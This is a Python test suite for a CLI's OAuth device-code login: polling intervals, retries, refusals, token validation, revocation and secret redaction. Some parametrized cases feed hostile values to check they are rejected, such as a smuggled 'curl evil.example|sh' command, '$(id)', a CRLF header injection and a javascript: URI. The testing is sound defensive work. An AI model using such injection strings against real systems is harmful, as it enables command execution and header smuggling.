"""The device login against scripted answers, with a clock that moves only when somebody sleeps."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Any

import pytest
from scripted_client import AskedOf, ScriptedClient

from server.client.access_token import Access
from server.client.client_errors import (
    BadAnswer,
    ClientError,
    LoginDenied,
    LoginError,
    LoginExpired,
    ServerBusy,
)
from server.client.device_login import ask_for_code, end, login_from, remember, wait_for_tokens
from server.client.discovery import Place
from server.client.token_file import TokenFile
from server.lib.http_client.failures import BrokenOff, NotConnected
from server.lib.oauth_client.device_authorization import DeviceCode
from server.lib.oauth_client.issuer_metadata import ServerMetadata
from server.lib.oauth_client.token_requests import DEVICE_CODE, Tokens

ORIGIN = "https://a.example"
PLACE = Place(
    url=f"{ORIGIN}/mcp",
    resource=f"{ORIGIN}/mcp",
    scope="mcp",
    server=ServerMetadata(
        found_at="",
        issuer=ORIGIN,
        token_endpoint=f"{ORIGIN}/token",
        device_authorization_endpoint=f"{ORIGIN}/device_authorization",
        revocation_endpoint=f"{ORIGIN}/revoke",
        grant_types=(DEVICE_CODE,),
    ),
)
CODE = {
    "device_code": "dc-secret",
    "user_code": "WDJB-MJHT",
    "verification_uri": f"{ORIGIN}/device",
    "verification_uri_complete": f"{ORIGIN}/device?user_code=WDJB-MJHT",
    "expires_in": 600,
    "interval": 5,
}
GRANTED = {
    "access_token": "access-1",
    "token_type": "bearer",
    "expires_in": 3600,
    "refresh_token": "refresh-1",
    "scope": "mcp",
}
PENDING = (400, {"error": "authorization_pending"})
SLOW_DOWN = (400, {"error": "slow_down"})


class Clock:
    def __init__(self) -> None:
        self.millis = 1_000_000
        self.sleeps: list[float] = []

    def now(self) -> int:
        return self.millis

    async def sleep(self, seconds: float) -> None:
        self.sleeps.append(seconds)
        self.millis += int(seconds * 1000)


class Script:
    """Answers in order, the last one for ever; what was asked is kept."""

    def __init__(self, *answers: Any) -> None:
        self.answers = list(answers)
        self.forms: list[dict[str, str]] = []

    def __call__(self, asked: AskedOf) -> tuple[int, Any, Mapping[str, str]]:
        self.forms.append(asked.form)
        answer = self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]
        if isinstance(answer, Exception):
            raise answer
        status, body, *headers = answer
        return status, body, headers[0] if headers else {}


async def poll(
    script: Script,
    clock: Clock,
    trouble: Callable[[ClientError], None] = lambda error: None,
    answer: Mapping[str, Any] | None = None,
) -> Tokens:
    client = ScriptedClient(script)
    code = await code_from(answer or CODE, clock)
    return await wait_for_tokens(client, PLACE, code, now=clock.now, sleep=clock.sleep, trouble=trouble)


async def code_from(body: Any, clock: Clock, status: int = 200) -> DeviceCode:
    client = ScriptedClient(Script((status, body)))
    return await ask_for_code(
        client, PLACE, scope="mcp", names={"client_name": "ostiary", "hostname": "desk"}, now=clock.now
    )


async def test_the_request_for_a_code_says_who_asks_and_for_what() -> None:
    script = Script((200, CODE))
    client = ScriptedClient(script)
    await ask_for_code(
        client, PLACE, scope="mcp", names={"client_name": "ostiary", "hostname": "desk"}, now=Clock().now
    )
    assert script.forms == [
        {
            "client_id": "ostiary-cli",
            "resource": f"{ORIGIN}/mcp",
            "client_name": "ostiary",
            "hostname": "desk",
            "scope": "mcp",
        }
    ]


async def test_an_approved_code_becomes_tokens_and_every_wait_is_the_interval() -> None:
    script, clock = Script(PENDING, PENDING, (200, GRANTED)), Clock()
    tokens = await poll(script, clock)
    assert tokens.access_token.reveal() == "access-1"
    assert clock.sleeps == [5, 5, 5]
    assert script.forms[0] == {
        "grant_type": DEVICE_CODE,
        "device_code": "dc-secret",
        "client_id": "ostiary-cli",
        "resource": f"{ORIGIN}/mcp",
    }


async def test_a_server_that_may_be_asked_often_is_asked_less_often_after_two_minutes() -> None:
    clock = Clock()
    await poll(Script(*[PENDING] * 62, (200, GRANTED)), clock, answer={**CODE, "interval": 2})
    assert clock.sleeps == [2] * 60 + [5] * 3


async def test_each_slow_down_adds_five_seconds_for_good() -> None:
    clock = Clock()
    await poll(Script(SLOW_DOWN, PENDING, SLOW_DOWN, PENDING, (200, GRANTED)), clock)
    assert clock.sleeps == [5, 10, 10, 15, 15]


async def test_a_server_that_names_no_interval_is_asked_every_five_seconds() -> None:
    clock = Clock()
    code = await code_from({name: value for name, value in CODE.items() if name != "interval"}, clock)
    assert code.interval == 5


async def test_trouble_on_the_network_is_waited_out_and_told_once() -> None:
    clock, told = Clock(), list[str]()
    broken = BrokenOff()
    script = Script(PENDING, broken, broken, broken, (503, {}), PENDING, (200, GRANTED))
    await poll(script, clock, lambda error: told.append(str(error)))
    assert clock.sleeps == [5, 5, 10, 20, 30, 30, 5]
    assert told == ["the connection to a.example broke off"]


async def test_a_busy_server_says_itself_how_long_to_wait() -> None:
    clock = Clock()
    await poll(Script((429, {}, {"Retry-After": "42"}), (200, GRANTED)), clock)
    assert clock.sleeps == [5, 42]


@pytest.mark.parametrize(
    ("wait", "hint"),
    [
        ("582", "try again in 10 minutes"),
        ("61", "try again in 61 seconds"),
        ("9" * 30, "try again in 1440 minutes"),
        ("soon", "try again in a moment"),
        (None, "try again in a moment"),
    ],
)
async def test_why_a_server_gives_no_code_now_and_for_how_long_is_told_in_its_own_words(
    wait: str | None, hint: str
) -> None:
    said = {
        "error": "temporarily_unavailable",
        "error_description": "many logins wait",
    }
    script = Script((429, said, {} if wait is None else {"Retry-After": wait}))
    client = ScriptedClient(script)
    with pytest.raises(ServerBusy) as busy:
        await ask_for_code(client, PLACE, scope="mcp", names={}, now=Clock().now)
    assert str(busy.value) == "a.example is busy: many logins wait"
    assert busy.value.hint == hint
    # We wait for as long as that ourselves, within reason.
    assert (busy.value.retry_after_seconds or 0) <= 300


async def test_what_a_busy_server_says_is_cut() -> None:
    script = Script((503, {"error_description": "x" * 5000}))
    client = ScriptedClient(script)
    with pytest.raises(ServerBusy) as busy:
        await ask_for_code(client, PLACE, scope="mcp", names={}, now=Clock().now)
    assert str(busy.value) == "a.example is busy: " + "x" * 300


async def test_trouble_that_does_not_end_ends_with_the_code() -> None:
    clock = Clock()
    with pytest.raises(LoginExpired):
        await poll(Script(NotConnected("refused")), clock)
    assert clock.millis == 1_000_000 + 600_000


async def test_a_code_that_runs_out_here_is_not_asked_for_again() -> None:
    script, clock = Script(PENDING), Clock()
    with pytest.raises(LoginExpired) as refused:
        await poll(script, clock)
    assert refused.value.hint == f"ostiary login {ORIGIN}/mcp"
    assert len(script.forms) == 600 / 5
    assert sum(clock.sleeps) == 600


@pytest.mark.parametrize(
    ("error", "kind", "said"),
    [
        ("access_denied", LoginDenied, "denied"),
        ("expired_token", LoginExpired, "in time"),
        ("invalid_client", LoginError, "does not know"),
        ("invalid_grant", LoginError, "any more"),
        ("server_on_fire", LoginError, "server_on_fire"),
    ],
)
async def test_a_refusal_ends_the_wait_and_is_explained(
    error: str, kind: type[LoginError], said: str
) -> None:
    clock = Clock()
    with pytest.raises(kind, match=said):
        await poll(Script((400, {"error": error})), clock)
    assert clock.sleeps == [5]


@pytest.mark.parametrize(
    "body",
    [
        {},
        {**GRANTED, "access_token": ""},
        {**GRANTED, "access_token": "with space"},
        {**GRANTED, "access_token": "line\r\nX-Evil: 1"},
        {**GRANTED, "access_token": 5},
        {**GRANTED, "access_token": "x" * 100_000},
        {**GRANTED, "token_type": "mac"},
        {**GRANTED, "token_type": None},
    ],
)
async def test_a_token_that_could_not_be_used_is_refused(body: Any) -> None:
    with pytest.raises(BadAnswer):
        await poll(Script((200, body)), Clock())


@pytest.mark.parametrize(
    "change",
    [
        {"device_code": None},
        {"device_code": ""},
        {"user_code": "x" * 100},
        {"user_code": "\x1b[31mABC"},
        {"user_code": "АВС"},
        {"user_code": "BCDF;curl evil.example|sh"},
        {"user_code": "$(id)"},
        {"user_code": "BCDF FGHJ"},
        {"user_code": "--yes"},
        {"user_code": ""},
        {"verification_uri": "http://a.example/device"},
        {"verification_uri": "javascript:alert(1)"},
        {"verification_uri": None},
        {"expires_in": None},
        {"expires_in": -5},
    ],
)
async def test_a_code_that_could_not_be_shown_or_used_is_refused(change: dict[str, Any]) -> None:
    with pytest.raises(BadAnswer, match="no usable device code"):
        await code_from({**CODE, **change}, Clock())


async def test_a_complete_address_off_limits_is_dropped_and_the_plain_one_kept() -> None:
    code = await code_from({**CODE, "verification_uri_complete": "http://evil.example/x"}, Clock())
    assert code.verification_uri_complete is None
    assert code.verification_uri == f"{ORIGIN}/device"


async def test_an_absurd_interval_and_lifetime_are_bounded() -> None:
    code = await code_from({**CODE, "interval": 10_000, "expires_in": 10**9}, Clock())
    assert code.interval == 60
    assert code.expires_at == 1_000_000 + 3_600_000


async def test_a_server_without_the_device_grant_is_told_before_anything_is_sent() -> None:
    script = Script((200, CODE))
    import msgspec

    server = msgspec.structs.replace(PLACE.server, grant_types=("authorization_code",))
    client = ScriptedClient(script)
    with pytest.raises(LoginError, match="no login by device code"):
        await ask_for_code(
            client, msgspec.structs.replace(PLACE, server=server), scope="", names={}, now=Clock().now
        )
    assert script.forms == []


async def test_neither_code_nor_token_is_in_any_repr() -> None:
    code = await code_from(CODE, Clock())
    tokens = await poll(Script((200, GRANTED)), Clock())
    assert "dc-secret" not in repr(code)
    assert "access-1" not in repr(tokens)
    assert "refresh-1" not in repr(tokens)


async def test_a_new_login_replaces_the_old_one_and_ends_it_at_the_server(file: TokenFile) -> None:
    revoked = Script((200, {}))
    first = await poll(Script((200, GRANTED)), Clock())
    second = await poll(
        Script((200, {**GRANTED, "access_token": "access-2", "refresh_token": "refresh-2", "scope": None})),
        Clock(),
    )
    client = ScriptedClient(revoked)
    await remember(client, file, login_from(PLACE, first, asked_scope="mcp", now=1_000_000))
    assert revoked.forms == []
    await remember(client, file, login_from(PLACE, second, asked_scope="mcp", now=1_000_000))
    kept = await Access(file, PLACE.url, client=client, now=lambda: 1_000_000).login()
    assert revoked.forms == [
        {"token": "refresh-1", "token_type_hint": "refresh_token", "client_id": "ostiary-cli"}
    ]
    assert kept.access_token.reveal() == "access-2"
    assert kept.scope == "mcp"


async def test_a_login_whose_server_does_not_answer_any_more_can_still_be_replaced(file: TokenFile) -> None:
    tokens = await poll(Script((200, GRANTED)), Clock())
    login = login_from(PLACE, tokens, asked_scope="mcp", now=1_000_000)
    client = ScriptedClient(Script(BrokenOff()))
    await remember(client, file, login)
    await remember(client, file, login)
    with pytest.raises(ClientError):
        await end(client, login)
    assert file.get(PLACE.url) == login
